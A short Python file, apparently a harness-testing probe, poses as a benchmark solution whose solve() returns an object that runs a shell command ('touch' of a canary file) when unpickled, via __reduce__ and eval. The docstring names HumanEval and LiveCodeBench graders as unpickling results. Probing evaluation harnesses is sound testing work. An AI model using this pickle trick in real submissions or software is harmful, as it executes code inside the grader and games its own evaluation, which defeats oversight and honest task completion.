"""Return an object that leaves a file behind when unpickled.

Why: shows at once whether results travel as pickles (multiprocessing queues do).
Seen: HumanEval and LiveCodeBench return results through multiprocessing.Manager, which unpickles
"""


class Bait:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/aha-cheat-was-here')",)


def solve(words, k):
    return Bait()
